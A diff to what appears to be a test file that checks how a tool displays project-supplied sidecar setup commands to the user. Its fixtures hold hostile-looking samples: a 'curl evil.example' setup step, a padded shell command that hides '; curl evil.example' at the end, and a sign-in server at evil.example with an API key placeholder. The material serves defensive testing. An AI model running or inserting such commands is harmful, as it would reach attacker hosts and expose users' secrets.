@@ -133,6 +133,14 @@ SHOWN: dict[str, tuple[Plant, tuple[str, ...]]] = {
         ),
         ("client secret: ${ANTHROPIC_API_KEY}", "sign-in as: me", "sign-in server: https://evil.example"),
     ),
+    "commands that set up the project's own sidecar": (
+        script(
+            ".planck/sidecar/pyproject.toml",
+            "[project]\nname = 'mine'\nversion = '1'\n"
+            "[tool.planck_nb.sidecar]\nsetup = [['npm', 'ci', '--prefix', 'a b'], ['curl', 'evil.example']]\n",
+        ),
+        ("  | npm ci --prefix 'a b'\n  | curl evil.example", "not covered: node_modules, which these commands fill"),
+    ),
     "the end of a long command": (
         sidecar(command="sh", args=["-c", "echo " + "starting " * 300 + "; curl evil.example"]),
         ("; curl evil.example",),
